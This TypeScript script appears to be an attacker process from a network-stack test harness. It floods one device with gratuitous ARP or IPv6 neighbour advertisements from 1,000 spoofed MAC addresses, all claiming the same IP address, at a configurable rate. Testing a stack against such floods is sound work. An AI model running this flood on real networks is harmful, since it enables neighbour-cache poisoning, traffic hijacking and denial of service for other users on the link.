/**
 * A thousand machines that claim one address: gratuitous ARP for IPv4, neighbour advertisements for IPv6, each from
 * another MAC address.
 *
 * Usage: `deno run --allow-all claims_process.ts MILLISECONDS DEVICE ADDRESS PER_SECOND`
 *
 * @module
 */

import { familyOf, type MacAddress } from "../../src/wire/address.ts";
import { encodeGratuitousArp } from "../../src/wire/arp.ts";
import { encodeNeighbourAdvertisement } from "../../src/wire/ndp.ts";
import { sendFrames } from "../frame_sender.ts";
import { report } from "./attacker.ts";

const MACHINES = 1000;

const [duration, device = "", address = "", rate] = Deno.args;
const frames = Array.from({ length: MACHINES }, (_, index) => claim(macOf(index)));
const { sent } = sendFrames(device, frames, Number(rate), Number(duration));
report({ sent });

function claim(mac: MacAddress): Uint8Array<ArrayBuffer> {
  return familyOf(address) === "ipv4"
    ? encodeGratuitousArp(address, mac)
    : encodeNeighbourAdvertisement(address, mac, false);
}

/** Locally administered (IEEE 802). */
function macOf(index: number): MacAddress {
  return Uint8Array.of(0x02, 0, 0, 1, index >> 8, index & 0xff);
}
